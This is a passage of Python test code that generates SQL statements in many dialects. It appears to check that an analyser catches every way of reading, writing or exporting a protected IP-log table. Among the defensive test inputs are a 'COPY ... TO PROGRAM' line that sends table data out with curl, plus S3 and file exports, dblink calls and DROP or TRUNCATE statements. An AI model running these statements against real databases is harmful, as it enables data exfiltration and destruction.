    add("no semicolon", ["tsql"], f"BEGIN TRY INSERT INTO a VALUES (1) END TRY BEGIN CATCH SELECT ip FROM {T} END CATCH", [T], ["a"])
    add("no semicolon", ["tsql"], f"WHILE 1 = 1 BEGIN DELETE TOP (10) FROM {T} IF @@ROWCOUNT = 0 BREAK END", [], [T])
    add("batch separator", ["tsql"], f"SELECT 1\nGO\nSELECT ip FROM {T}\nGO 5\n")
    add("delimiter", MYSQL, f"DELIMITER //\nSELECT ip FROM {T} //\nDELIMITER ;\nSELECT 1", exact=False)
    add("end of a PL/SQL block", ["oracle"], f"BEGIN NULL; END;\n/\nSELECT ip FROM {T}")
    add("block", ["oracle"], f"BEGIN DELETE FROM {T}; COMMIT; END;", [], [T], exact=False)
    add("block", ["oracle"], f"DECLARE n NUMBER; BEGIN SELECT count(*) INTO n FROM {T}; END;", exact=False)
    add("block", ["oracle"], f"BEGIN FOR r IN (SELECT * FROM {T}) LOOP NULL; END LOOP; END;", exact=False)
    add("block", ["oracle"], f"DECLARE CURSOR c IS SELECT * FROM {T}; BEGIN OPEN c; END;", exact=False)
    add("block", ["snowflake"], f"BEGIN LET r RESULTSET := (SELECT ip FROM {T}); RETURN TABLE(r); END", exact=False)
    add("block", ["bigquery"], f"BEGIN SELECT ip FROM {T}; EXCEPTION WHEN ERROR THEN SELECT 1; END", exact=False)
    add("block", MYSQL, f"BEGIN NOT ATOMIC SELECT ip FROM {T}; END", exact=False)


def dynamic():
    q, dq = f"SELECT ip FROM {T}", f"DELETE FROM {T}"
    soft = dict(exact=False, tables=[T])
    for body in (f"BEGIN {dq}; END", f"BEGIN EXECUTE '{dq}'; END", f"BEGIN EXECUTE 'DELETE FROM ' || '{T}'; END", f"DECLARE r record; BEGIN FOR r IN {q} LOOP NULL; END LOOP; END",
                 f"BEGIN PERFORM ip FROM {T}; END", f"BEGIN EXECUTE format('DELETE FROM %I', '{T}'); END", f"DECLARE c CURSOR FOR {q}; BEGIN OPEN c; END", f"DECLARE n int; BEGIN {q} INTO n; END",
                 f"BEGIN EXECUTE 'DELETE FROM ' || quote_ident('{T}'); END", f"DECLARE t text := '{T}'; BEGIN EXECUTE 'DELETE FROM ' || t; END", f"BEGIN IF EXISTS ({q}) THEN NULL; END IF; END",
                 f"DECLARE x {T}%ROWTYPE; BEGIN x := (SELECT t FROM {T} t); END", f"BEGIN RETURN QUERY {q}; END"):
        add("DO", ["postgres"], f"DO $$ {body} $$", **soft)
        add("DO", ["postgres"], "DO LANGUAGE plpgsql '" + body.replace("'", "''") + "'", **soft)
        add("DO", ["postgres"], "DO E'" + body.replace("'", "\\'") + "'", **soft)
    add("DO, escaped", ["postgres"], "DO E'BEGIN DELETE FROM \\x75ser_ip_log; END'", **soft)
    add("DO, escaped", ["postgres"], "DO U&'BEGIN DELETE FROM \\0075ser_ip_log; END'", **soft)
    add("function body", ["postgres"], f"CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $f$ {q} $f$", **soft)
    add("function body", ["postgres"], f"CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC {q}; END", **soft)
    add("function body", ["postgres"], f"CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS 'BEGIN {dq}; END'", **soft)
    add("function body", ["tsql"], f"CREATE PROCEDURE p AS BEGIN {q} END", **soft)
    add("function body", MYSQL, f"CREATE PROCEDURE p() BEGIN {dq}; END", **soft)
    add("function body", ["oracle"], f"CREATE OR REPLACE PROCEDURE p IS BEGIN {dq}; END;", **soft)
    add("function body", ["snowflake"], f"CREATE FUNCTION f() RETURNS TABLE (ip VARCHAR) AS $$ {q} $$", **soft)
    add("trigger body", ["sqlite"], f"CREATE TRIGGER x AFTER INSERT ON users BEGIN {dq}; END", **soft)
    add("trigger body", MYSQL, f"CREATE TRIGGER x AFTER INSERT ON users FOR EACH ROW {dq}", **soft)
    add("rule", ["postgres"], f"CREATE RULE r AS ON INSERT TO users DO ALSO {dq}", **soft)
    add("PREPARE", ["postgres"], f"PREPARE p AS {q}")
    add("PREPARE", ["postgres"], f"PREPARE p (int, text) AS {dq} WHERE a = $1", [], [T])
    for s in (f"'{q}'", f"CONCAT('SELECT ip FROM ', '{T}')", f'"{q}"'):
        add("PREPARE FROM", MYSQL, f"PREPARE p FROM {s}", **soft)
        add("PREPARE FROM a variable", MYSQL, f"SET @q = {s}; PREPARE p FROM @q", **soft)
        add("EXECUTE IMMEDIATE", ["mariadb"], f"EXECUTE IMMEDIATE {s}", **soft)
    for s in (f"N'{q}'", f"'{q}'", f"N'SELECT ip FROM ' + N'{T}'"):
        add("sp_executesql", ["tsql"], f"EXEC sp_executesql {s}", **soft)
        add("sp_executesql", ["tsql"], f"EXECUTE sys.sp_executesql @stmt = {s}, @params = N'@a int', @a = 1", **soft)
        add("EXEC string", ["tsql"], f"EXEC ({s})", **soft)
        add("EXEC string", ["tsql"], f"EXEC('SET NOCOUNT ON;' + {s}) AT srv", **soft)
        add("EXEC a variable", ["tsql"], f"DECLARE @q nvarchar(max) = {s}; EXEC (@q)", **soft)
    add("OPENQUERY", ["tsql"], f"SELECT * FROM OPENQUERY(srv, '{q}')", **soft)
    add("OPENROWSET", ["tsql"], f"SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes', '{q}') a", **soft)
    add("OPENROWSET", ["tsql"], f"SELECT * FROM OPENDATASOURCE('SQLNCLI', 'x').crm.dbo.{T}", **soft)
    add("sp_msforeachtable", ["tsql"], f"EXEC sp_MSforeachdb 'SELECT * FROM ?.dbo.{T}'", **soft)
    add("EXECUTE IMMEDIATE", ["oracle"], f"BEGIN EXECUTE IMMEDIATE '{dq}'; END;", **soft)
    add("EXECUTE IMMEDIATE", ["oracle"], f"BEGIN EXECUTE IMMEDIATE 'DELETE FROM ' || '{T}'; END;", **soft)
    add("EXECUTE IMMEDIATE", ["oracle"], f"BEGIN EXECUTE IMMEDIATE q'[{dq}]'; END;", **soft)
    add("OPEN FOR", ["oracle"], f"DECLARE c SYS_REFCURSOR; BEGIN OPEN c FOR '{q}'; END;", **soft)
    add("DBMS_SQL", ["oracle"], f"BEGIN DBMS_SQL.PARSE(c, '{q}', DBMS_SQL.NATIVE); END;", **soft)
    add("XML of a query", ["oracle"], f"SELECT dbms_xmlgen.getxml('{q}') FROM dual", **soft)
    for s in (f"$${q}$$", f"'{q}'"):
        add("EXECUTE IMMEDIATE", ["snowflake"], f"EXECUTE IMMEDIATE {s}", **soft)
    add("EXECUTE IMMEDIATE", ["bigquery", "databricks"], f'EXECUTE IMMEDIATE "{q}"', **soft)
    add("EXECUTE IMMEDIATE", ["bigquery"], f'EXECUTE IMMEDIATE "SELECT ip FROM " || "{T}"', **soft)
    add("EXECUTE IMMEDIATE", ["trino"], f"EXECUTE IMMEDIATE '{q}'", **soft)
    for f in ("query_to_xml('{}', true, false, '')", "query_to_xmlschema('{}', true, false, '')", "cursor_to_xml('{}', 1, true, false, '')", "ts_stat('{}')", "pg_catalog.query_to_xml($q${}$q$, true, true, '')"):
        add("text run by a function", ["postgres"], "SELECT " + f.replace("{}", q), **soft)
    for f in ("dblink('dbname=x', '{}')", "dblink('{}')", "crosstab('{}')", "dblink_exec('c', '{}')", "dblink_open('c', '{}')", "dblink_send_query('c', '{}')"):
        add("text run by a function", ["postgres"], "SELECT * FROM " + f.replace("{}", q) + " AS t(a text)", **soft)
    for s in (f"table_to_xml('{T}', true, false, '')", f"table_to_xml('public.{T}'::regclass, true, false, '')", f"pg_relation_size('{T}')", f"'{T}'::regclass", f"to_regclass('{T}')",
              f"has_table_privilege('{T}', 'select')", f"lo_export(1, '/tmp/{T}')"):
        add("constant that names it", ["postgres"], "SELECT " + s, constant=True, **soft)
    add("constant that names it", ALL, f"SELECT f('{T}')", constant=True, **soft)
    add("constant that names it", ALL, f"CALL p('{T}')", constant=True, **soft)
    add("constant that holds a query", ALL, f"SELECT f('x', '{q}')", **soft)
    add("constant in pieces", ["postgres", "oracle", "sqlite", "duckdb", "ansi"], "SELECT f('SELECT ip FROM user' || '_ip_log')", **soft)
    add("constant in pieces", ["tsql"], "EXEC ('SELECT ip FROM user' + '_ip_log')", **soft)
    add("query_table", ["duckdb"], f"SELECT * FROM query_table('{T}')")
    add("query_table", ["duckdb"], f"SELECT * FROM query_table(['users', '{T}'])", ["users", T])
    add("query", ["duckdb"], f"SELECT * FROM query('{q}')", **soft)
    add("query", ["duckdb"], f"SELECT * FROM query('SELECT ip FROM ' || '{T}')", **soft)
    for f in ("postgres_query('db', '{}')", "mysql_query('db', '{}')", "sqlite_scan('x.db', '{t}')", "postgres_scan('', 'public', '{t}')"):
        add("text run elsewhere", ["duckdb"], "SELECT * FROM " + f.replace("{}", q).replace("{t}", T), **soft)
    add("IDENTIFIER", ["snowflake", "databricks"], f"SELECT * FROM IDENTIFIER('{T}')")
    add("IDENTIFIER", ["snowflake", "databricks"], f"SELECT * FROM IDENTIFIER('crm.{T}')", [f"crm.{T}"])
    add("TABLE of a name", ["snowflake"], f"SELECT * FROM TABLE('{T}')")
    add("TABLE of a result", ["trino"], f"SELECT * FROM TABLE(pg.system.query(query => '{q}'))", **soft)
    add("external query", ["bigquery"], f"SELECT * FROM EXTERNAL_QUERY('us.conn', '{q}')", **soft)
    add("external query", ["bigquery"], f'SELECT * FROM EXTERNAL_QUERY("us.conn", """{q}""")', **soft)
    for f in ("remote('h', crm.{t})", "remote('h', 'crm', '{t}')", "cluster('c', crm.{t})", "merge('crm', '^{t}$')", "mysql('h:3306', 'crm', '{t}', 'u', 'p')", "postgresql('h', 'crm', '{t}', 'u', 'p')",
              "remoteSecure('h', crm, {t})", "view(SELECT * FROM {t})"):
        add("table function", ["clickhouse"], "SELECT * FROM " + f.replace("{t}", T), **soft)
    add("dictionary", ["clickhouse"], f"SELECT dictGet('{T}', 'ip', 1)", **soft)
    add("joinGet", ["clickhouse"], f"SELECT joinGet({T}, 'ip', 1)", **soft)
    add("IN a table", ["clickhouse"], f"SELECT 1 WHERE 1 IN {T}")
    add("IN a table", ["clickhouse"], f"SELECT a FROM b WHERE c GLOBAL NOT IN crm.{T}", ["b", f"crm.{T}"])


def structure():
    add("TABLE", ["postgres", "mysql", "trino", "spark", "databricks", "duckdb", "mariadb"], f"TABLE {T}", exact=True)
    add("TABLE in a union", ["postgres", "mysql"], f"SELECT 1 UNION TABLE {T}")
    add("TABLE in a subquery", ["postgres", "mysql"], f"SELECT * FROM (TABLE {T}) x")
    add("TABLE in a CTE", ["postgres"], f"WITH c AS (TABLE {T}) SELECT * FROM c")
    add("TABLE inserted", ["postgres", "mysql"], f"INSERT INTO a TABLE {T}", [T], ["a"])
    add("COPY TO", ["postgres", "redshift"], f"COPY {T} TO STDOUT", exact=True)
    add("COPY a query", ["postgres", "duckdb"], f"COPY (SELECT * FROM {T}) TO '/tmp/x'")
    add("COPY a query that writes", ["postgres"], f"COPY (DELETE FROM {T} RETURNING *) TO STDOUT", [], [T])
    add("COPY to a program", ["postgres"], f"COPY {T} (ip) TO PROGRAM 'curl -d @- x'")
    add("COPY, old syntax", ["postgres"], f"COPY BINARY {T} TO '/tmp/x'")
    add("UNLOAD", ["redshift"], f"UNLOAD ('SELECT ip FROM {T}') TO 's3://b/x' IAM_ROLE 'r'", exact=False)
    add("UNLOAD", ["athena"], f"UNLOAD (SELECT ip FROM {T}) TO 's3://b/x' WITH (format = 'PARQUET')")
    add("EXPORT", ["bigquery"], f"EXPORT DATA OPTIONS (uri = 'gs://b/x') AS SELECT ip FROM {T}")
    add("COPY INTO a stage", ["snowflake"], f"COPY INTO @stage/x FROM {T}")
    add("COPY INTO a stage", ["snowflake"], f"COPY INTO 's3://b/x' FROM (SELECT ip FROM {T})")
    add("INTO OUTFILE", MYSQL, f"SELECT ip INTO OUTFILE '/tmp/x' FROM {T}")
    add("INTO OUTFILE at the end", MYSQL, f"SELECT ip FROM {T} INTO DUMPFILE '/tmp/x'")
    add("INTO a variable", MYSQL, f"SELECT ip INTO @a FROM {T}")
    add("INSERT OVERWRITE DIRECTORY", ["hive", "spark"], f"INSERT OVERWRITE LOCAL DIRECTORY '/tmp/x' SELECT ip FROM {T}")
    add("FROM first", ["hive"], f"FROM {T} INSERT OVERWRITE TABLE a SELECT ip INSERT INTO TABLE b SELECT id", [T], ["a", "b"])
    add("FROM first", ["duckdb"], f"FROM {T}")
    add("FROM first", ["duckdb"], f"FROM {T} SELECT ip WHERE a = 1")
    add("FROM first in a subquery", ["duckdb"], f"SELECT * FROM (FROM {T}) x JOIN users USING (id)", [T, "users"])
    add("pipe", ["bigquery"], f"FROM users |> JOIN {T} USING (id) |> WHERE a = 1 |> SELECT ip", [T, "users"])
    add("pipe", ["bigquery", "databricks"], f"FROM users |> UNION ALL (SELECT * FROM {T})", [T, "users"])
    add("HANDLER", MYSQL, f"HANDLER {T} OPEN")
    add("HANDLER", MYSQL, f"HANDLER {T} READ FIRST WHERE a = 1")
    add("HANDLER with an alias", MYSQL, f"HANDLER {T} OPEN AS h; HANDLER h READ NEXT", exact=False)
    add("IN a table", ["sqlite"], f"SELECT 1 WHERE 1 IN {T}")
    add("IN a table", ["sqlite"], f"SELECT a FROM b WHERE a NOT IN main.{T}", ["b", f"main.{T}"])
    add("IN a quoted table", ["sqlite"], f'SELECT a FROM b WHERE a IN "{T}" AND c', ["b", T])
    add("PRAGMA", ["sqlite"], f"PRAGMA table_info({T})", exact=False)
    add("PRAGMA", ["sqlite"], f"PRAGMA table_info = '{T}'", exact=False)
    add("PRAGMA as a table", ["sqlite"], f"SELECT * FROM pragma_table_info('{T}')", exact=False)
    add("REPLACE", MYSQL + ["sqlite"], f"REPLACE INTO {T} SELECT * FROM users", ["users"], [T])
    add("INSERT without INTO", MYSQL, f"INSERT {T} VALUES (1)", [], [T])
    add("INSERT without INTO", ["tsql"], f"INSERT TOP (1) {T} SELECT * FROM users", ["users"], [T])
    add("INSERT SET", MYSQL, f"INSERT INTO a SET b = (SELECT ip FROM {T} LIMIT 1)", [T], ["a"])
    add("INSERT ALL", ["oracle"], f"INSERT ALL INTO a VALUES (x) WHEN 1 = 1 THEN INTO b SELECT ip AS x FROM {T}", [T], ["a", "b"], exact=False)
    add("INSERT ALL", ["oracle", "snowflake"], f"INSERT ALL INTO a INTO b (c) VALUES (x) SELECT ip x FROM {T}", [T], ["a", "b"])
    add("INSERT FIRST", ["oracle", "snowflake"], f"INSERT FIRST WHEN x > 1 THEN INTO a WHEN x > 2 THEN INTO b ELSE INTO c SELECT ip x FROM {T}", [T], ["a", "b", "c"])
    add("ON CONFLICT", ["postgres", "sqlite"], f"INSERT INTO a (b) VALUES (1) ON CONFLICT (b) DO UPDATE SET c = (SELECT max(ip) FROM {T})", [T], ["a"])
    add("RETURNING", ["postgres"], f"INSERT INTO a VALUES (1) RETURNING (SELECT ip FROM {T})", [T], ["a"])
    add("VALUES", ALL, f"INSERT INTO a (b) VALUES ((SELECT max(ip) FROM {T}))", [T], ["a"])
    add("VALUES", ["postgres", "sqlite", "duckdb"], f"VALUES ((SELECT ip FROM {T}))")
    add("SET", ALL, f"UPDATE a SET b = (SELECT max(ip) FROM {T})", [T], ["a"])
    add("HAVING", ALL, f"SELECT a FROM b GROUP BY a HAVING count(*) > (SELECT count(*) FROM {T})", ["b", T])
    add("ORDER BY", ALL, f"SELECT a FROM b ORDER BY (SELECT max(ip) FROM {T})", ["b", T])
    add("LIMIT", ["postgres", "duckdb", "sqlite"], f"SELECT a FROM b LIMIT (SELECT count(*) FROM {T})", ["b", T])
    add("CASE", ALL, f"SELECT CASE WHEN a = 1 THEN (SELECT max(ip) FROM {T}) END FROM b", ["b", T])
    add("ON", ALL, f"SELECT * FROM a JOIN b ON a.i IN (SELECT i FROM {T})", ["a", "b", T])
    add("window", ["postgres"], f"SELECT sum(a) OVER (ORDER BY (SELECT max(ip) FROM {T})) FROM b", ["b", T])
    add("FILTER", ["postgres", "sqlite"], f"SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM {T})) FROM b", ["b", T])
    add("argument", ALL, f"SELECT coalesce((SELECT max(ip) FROM {T}), 0)")
    add("argument of a table function", ["postgres"], f"SELECT * FROM generate_series(1, (SELECT max(a) FROM {T}))")
    add("array", ["postgres", "bigquery", "spark"], f"SELECT ARRAY(SELECT ip FROM {T})")
    add("array", ["postgres"], f"SELECT a[(SELECT max(b) FROM {T})] FROM users", ["users", T])
    add("whole row", ["postgres"], f"SELECT {T} FROM {T}")
    add("whole row", ["postgres"], f"SELECT ({T}).*, row_to_json({T}) FROM {T}")
    add("EXISTS", ALL, f"SELECT 1 FROM a WHERE EXISTS (SELECT * FROM {T} WHERE {T}.i = a.i)", ["a", T])
    add("ANY", ["postgres", "mysql", "tsql", "oracle"], f"SELECT 1 FROM a WHERE b = ANY (SELECT ip FROM {T})", ["a", T])
    add("LATERAL", ["postgres", "mysql", "trino", "snowflake", "duckdb", "databricks"], f"SELECT * FROM a, LATERAL (SELECT * FROM {T} WHERE {T}.i = a.i) x", ["a", T])
    add("APPLY", ["tsql", "oracle"], f"SELECT * FROM a CROSS APPLY (SELECT TOP 1 ip FROM {T} WHERE i = a.i) x", ["a", T])
    for op in ("JOIN", "INNER JOIN", "LEFT JOIN", "LEFT OUTER JOIN", "RIGHT JOIN", "CROSS JOIN", "NATURAL JOIN"):
        on = "" if op.startswith(("CROSS", "NATURAL")) else " ON a.i = l.i"
        add("join: " + op, [d for d in ALL if (d, op) != ("tsql", "NATURAL JOIN")], f"SELECT * FROM a {op} {T} l{on}", ["a", T])
    for op, dialects in (("STRAIGHT_JOIN", MYSQL), ("ASOF JOIN", ["duckdb", "clickhouse"]), ("GLOBAL ANY LEFT JOIN", ["clickhouse"]), ("LEFT SEMI JOIN", ["hive", "spark", "impala", "databricks"]),
                         ("LEFT ANTI JOIN", ["hive", "spark", "impala", "databricks"]), ("SEMI JOIN", ["duckdb"]), ("ANTI JOIN", ["duckdb"]), ("FULL OUTER JOIN", ["postgres", "tsql", "hive"]),
                         ("POSITIONAL JOIN", ["duckdb"]), ("ARRAY JOIN", []), ("LEFT HASH JOIN", ["tsql"]), ("INNER LOOP JOIN", ["tsql"])):
        add("join: " + op, dialects, f"SELECT * FROM a {op} {T} l" + ("" if op == "POSITIONAL JOIN" else " ON a.i = l.i"), ["a", T])
    add("comma after a join", ALL, f"SELECT * FROM a JOIN b ON a.i = b.i, {T}", ["a", "b", T])
    add("parenthesised join", [d for d in ALL if d not in ("clickhouse",)], f"SELECT * FROM (a JOIN {T} ON a.i = {T}.i) JOIN b ON b.i = a.i", ["a", "b", T])
    add("parenthesised join", ["postgres", "sqlite", "mysql", "tsql"], f"SELECT * FROM ((a JOIN ({T} JOIN b ON 1 = 1) ON 1 = 1))", ["a", "b", T])
    add("nested ON", ["postgres", "tsql", "mysql"], f"SELECT * FROM a JOIN b JOIN {T} l ON l.i = b.i ON a.i = b.i", ["a", "b", T])
    add("FOR UPDATE OF", ["postgres"], f"SELECT * FROM a x JOIN {T} y ON 1 = 1 FOR UPDATE OF x NOWAIT", ["a", T], forbid=["x"])
    add("FROM in an expression", ["postgres", "mysql", "ansi"], f"SELECT EXTRACT(year FROM secret), TRIM(both 'x' FROM secret), SUBSTRING(secret FROM 2) FROM {T}", forbid=["secret"])
    add("IS DISTINCT FROM", ["postgres", "sqlite", "duckdb", "snowflake", "bigquery", "tsql", "trino"], f"SELECT a IS NOT DISTINCT FROM secret FROM {T} WHERE b IS DISTINCT FROM secret", forbid=["secret"])
    add("set operations", ALL, f"SELECT a FROM b UNION ALL SELECT ip FROM {T}", ["b", T])
    add("set operations", ["postgres", "sqlite", "oracle", "tsql", "duckdb"], f"SELECT a FROM b INTERSECT SELECT ip FROM {T}", ["b", T])
    add("MINUS", ["oracle", "hive", "spark", "impala"], f"SELECT a FROM b MINUS SELECT ip FROM {T}", ["b", T])
    add("CREATE TABLE AS", ALL, f"CREATE TABLE n AS SELECT * FROM {T}", [T], ["n"])
    add("CREATE VIEW", ALL, f"CREATE VIEW n AS SELECT * FROM {T}", [T], ["n"])
    add("CREATE TABLE LIKE", ["postgres"], f"CREATE TABLE n (LIKE {T} INCLUDING ALL)", [T], ["n"])
    add("CREATE TABLE LIKE", MYSQL + ["hive", "spark", "impala"], f"CREATE TABLE n LIKE {T}", [T], ["n"])
    add("CREATE TABLE CLONE", ["snowflake", "databricks", "bigquery"], f"CREATE TABLE n CLONE {T}", [T], ["n"])
    add("INHERITS", ["postgres"], f"CREATE TABLE n () INHERITS ({T})", [T], ["n"])
    add("PARTITION OF", ["postgres"], f"CREATE TABLE n PARTITION OF {T} FOR VALUES IN (1)", [T], ["n"])
    add("SELECT INTO", ["postgres", "tsql"], f"SELECT * INTO n FROM {T}", [T], ["n"])
    add("RENAME", ["postgres", "sqlite"], f"ALTER TABLE {T} RENAME TO harmless", [], [T, "harmless"])
    add("RENAME", MYSQL, f"RENAME TABLE {T} TO harmless", [], [T, "harmless"])
    add("EXCHANGE PARTITION", MYSQL, f"ALTER TABLE a EXCHANGE PARTITION p WITH TABLE {T}", [], ["a", T], exact=False)
    add("SWITCH", ["tsql"], f"ALTER TABLE {T} SWITCH TO a", [], ["a", T], exact=False)
    add("EXPLAIN", [d for d in ALL if d not in ("tsql", "oracle", "athena")], f"EXPLAIN SELECT * FROM {T}")
    add("EXPLAIN ANALYZE", ["postgres", "mysql", "duckdb"], f"EXPLAIN ANALYZE DELETE FROM {T}", [], [T])
    add("EXPLAIN PLAN FOR", ["oracle"], f"EXPLAIN PLAN FOR SELECT * FROM {T}")
    add("DECLARE CURSOR", ["postgres"], f"DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM {T}")
    add("DECLARE CURSOR", ["tsql"], f"DECLARE c CURSOR LOCAL FAST_FORWARD FOR SELECT * FROM {T}")
    add("ONLY and star", ["postgres"], f"SELECT * FROM ONLY ({T}), users *, LATERAL (SELECT 1) x", [T, "users"])
    add("TABLESAMPLE", ["postgres", "tsql", "hive", "spark", "trino", "duckdb", "snowflake", "databricks"], f"SELECT * FROM {T} TABLESAMPLE SYSTEM (10), a", [T, "a"], exact=False)
    add("PIVOT", ["tsql", "oracle"], f"SELECT * FROM {T} PIVOT (count(a) FOR b IN (x, y)) p, users", [T, "users"])
    add("PIVOT", ["duckdb"], f"PIVOT {T} ON a USING sum(b) GROUP BY c")
    add("UNPIVOT", ["duckdb"], f"UNPIVOT {T} ON a, b INTO NAME n VALUE v")
    add("SUMMARIZE", ["duckdb"], f"SUMMARIZE {T}")
    add("DESCRIBE", ["duckdb", "mysql", "mariadb"], f"DESCRIBE {T}")
    add("time travel", ["tsql"], f"SELECT * FROM {T} FOR SYSTEM_TIME AS OF '2020-01-01' l JOIN a ON 1 = 1", [T, "a"])
    add("time travel", ["snowflake"], f"SELECT * FROM {T} AT (TIMESTAMP => '2020-01-01'::timestamp) l JOIN a ON 1 = 1", [T, "a"])
    add("time travel", ["oracle"], f"SELECT * FROM {T} AS OF TIMESTAMP SYSDATE - 1 l, a", [T, "a"])
    add("time travel", ["mariadb"], f"SELECT * FROM {T} FOR SYSTEM_TIME ALL l, a", [T, "a"])
    add("time travel", ["spark", "databricks"], f"SELECT * FROM {T} VERSION AS OF 3 JOIN a ON 1 = 1", [T, "a"])
    add("time travel", ["trino", "athena"], f"SELECT * FROM {T} FOR VERSION AS OF 3 JOIN a ON 1 = 1", [T, "a"])
    add("time travel", ["bigquery"], f"SELECT * FROM {T} FOR SYSTEM_TIME AS OF CURRENT_TIMESTAMP() JOIN a ON 1 = 1", [T, "a"], exact=True)
    add("partition", MYSQL, f"SELECT * FROM {T} PARTITION (p0, p1) l JOIN a", [T, "a"])
    add("partition", ["oracle"], f"SELECT * FROM {T} PARTITION (p0) l, a", [T, "a"])
    add("index hint", MYSQL, f"SELECT * FROM {T} l FORCE INDEX FOR JOIN (i), a USE INDEX ()", [T, "a"])
    add("index hint", ["sqlite"], f"SELECT * FROM {T} AS l INDEXED BY i, a NOT INDEXED", [T, "a"])
    add("table hint", ["tsql"], f"SELECT * FROM {T} WITH (NOLOCK, INDEX(i)), a (NOLOCK)", [T, "a"], exact=True)
    add("FINAL", ["clickhouse"], f"SELECT * FROM {T} FINAL SAMPLE 1/10 PREWHERE a = 1")
    add("ARRAY JOIN", ["clickhouse"], f"SELECT * FROM {T} ARRAY JOIN secret AS s", forbid=["secret"])
    add("LATERAL VIEW", ["hive", "spark", "databricks"], f"SELECT * FROM {T} LATERAL VIEW OUTER explode(secret) e AS c LATERAL VIEW posexplode(x) f AS p, v", forbid=["secret", "e"])
    add("UNNEST", ["trino", "bigquery", "postgres", "duckdb"], f"SELECT * FROM {T} CROSS JOIN UNNEST(secret) AS x", forbid=["secret", "x"])
    add("array path", ["bigquery"], f"SELECT * FROM {T} t, t.arr a, UNNEST(a.b)", forbid=["t.arr"])
    add("MATCH_RECOGNIZE", ["oracle", "snowflake", "trino"], f"SELECT * FROM {T} MATCH_RECOGNIZE (PARTITION BY a ORDER BY b MEASURES x.c AS d PATTERN (x y+) DEFINE y AS y.c > 1) m, users", [T, "users"])
    add("MODEL", ["oracle"], f"SELECT * FROM {T} MODEL DIMENSION BY (a) MEASURES (b) RULES (b[1] = 2)")
    add("CONNECT BY", ["oracle"], f"SELECT * FROM {T} START WITH a IS NULL CONNECT BY PRIOR a = b")
    add("outer join sign", ["oracle"], f"SELECT * FROM a, {T} l WHERE a.i = l.i(+)", ["a", T])
    add("XMLTABLE", ["oracle", "postgres"], f"SELECT * FROM {T} l, XMLTABLE('/a' PASSING l.x COLUMNS b VARCHAR(10) PATH 'b') y")
    add("JSON_TABLE", ["mysql", "oracle", "postgres"], f"SELECT * FROM {T} l, JSON_TABLE(l.j, '$[*]' COLUMNS (a INT PATH '$.a')) y")
    add("OPENJSON", ["tsql"], f"SELECT * FROM {T} l CROSS APPLY OPENJSON(l.j) WITH (a int '$.a') y")
    add("FLATTEN", ["snowflake"], f"SELECT * FROM {T} l, LATERAL FLATTEN(input => l.j) f, TABLE(FLATTEN(l.k)) g")
    add("MERGE", MERGE, f"MERGE INTO a USING {T} l ON a.i = l.i WHEN MATCHED THEN UPDATE SET b = l.b", [T], ["a"])
    add("MERGE", MERGE, f"MERGE INTO {T} l USING (SELECT * FROM users) s ON s.i = l.i WHEN NOT MATCHED THEN INSERT (a) VALUES (s.a)", ["users"], [T])
    add("MERGE without INTO", ["tsql", "bigquery"], f"MERGE {T} AS l USING users AS s ON s.i = l.i WHEN MATCHED THEN DELETE;", ["users"], [T])
    add("UPDATE by alias", ["tsql"], f"UPDATE l SET ip = 1 FROM {T} l JOIN users u ON u.i = l.i", ["users"], [T])
    add("UPDATE by alias", MYSQL, f"UPDATE users u JOIN {T} l ON u.i = l.i SET l.ip = 1", ["users"], [T])
    add("UPDATE FROM", ["postgres", "sqlite", "duckdb", "snowflake"], f"UPDATE a SET b = l.ip FROM {T} l WHERE l.i = a.i", [T], ["a"])
    add("UPDATE OR", ["sqlite"], f"UPDATE OR REPLACE {T} SET a = 1", [], [T])
    add("UPDATE with hints", MYSQL, f"UPDATE LOW_PRIORITY IGNORE {T} SET a = 1", [], [T])
    add("UPDATE TOP", ["tsql"], f"UPDATE TOP (5) {T} SET a = 1", [], [T])
    add("DELETE by alias", ["tsql"], f"DELETE l FROM {T} l JOIN users u ON u.i = l.i", ["users"], [T])
    add("DELETE by alias", MYSQL, f"DELETE l FROM {T} AS l JOIN users u ON u.i = l.i", ["users"], [T])
    add("DELETE USING", MYSQL, f"DELETE FROM l USING {T} AS l JOIN users u ON u.i = l.i", ["users"], [T])
    add("DELETE USING", ["postgres", "duckdb", "snowflake"], f"DELETE FROM a USING {T} l WHERE l.i = a.i", [T], ["a"])
    add("DELETE with hints", MYSQL, f"DELETE LOW_PRIORITY QUICK IGNORE FROM {T}", [], [T])
    add("DELETE HISTORY", ["mariadb"], f"DELETE HISTORY FROM {T} BEFORE SYSTEM_TIME '2020-01-01'", [], [T])
    add("DELETE without FROM", ["tsql", "oracle"], f"DELETE {T} WHERE a = 1", [], [T])
    add("DELETE TOP", ["tsql"], f"DELETE TOP (10) PERCENT FROM {T} OUTPUT deleted.* INTO a", [], [T, "a"])
    add("OUTPUT", ["tsql"], f"INSERT INTO a OUTPUT inserted.id INTO {T} SELECT b FROM c", ["c"], ["a", T])
    add("TRUNCATE", ["postgres", "mysql", "mariadb"], f"TRUNCATE {T}", [], [T])
    add("TRUNCATE TABLE", [d for d in ALL if d not in ("sqlite",)], f"TRUNCATE TABLE {T}", [], [T])
    add("DROP TABLE", ALL, f"DROP TABLE IF EXISTS {T}", [], [T])
    add("LOAD DATA", MYSQL, f"LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE {T} FIELDS TERMINATED BY ','", [], [T])
    add("COPY FROM", ["postgres", "redshift"], f"COPY {T} FROM '/tmp/x'", [], [T])
    add("BULK INSERT", ["tsql"], f"BULK INSERT {T} FROM 'x.csv'", [], [T])
    add("CHECKSUM", MYSQL, f"CHECKSUM TABLE {T}", exact=False)
    add("multi-table write", ["oracle"], f"UPDATE (SELECT a.b, l.ip FROM a JOIN {T} l ON a.i = l.i) SET b = ip", ["a", T], [], exact=False, tables=["a", T])
    add("function with a query", ["oracle"], f"SELECT CURSOR(SELECT ip FROM {T}), MULTISET(SELECT 1 FROM users) FROM dual", exact=False)
    add("TABLE of a query", ["oracle"], f"SELECT * FROM TABLE(CAST(MULTISET(SELECT ip FROM {T}) AS x))", exact=False)
    add("THE", ["oracle"], f"SELECT * FROM THE (SELECT n FROM {T})", exact=False)


def lookalikes():
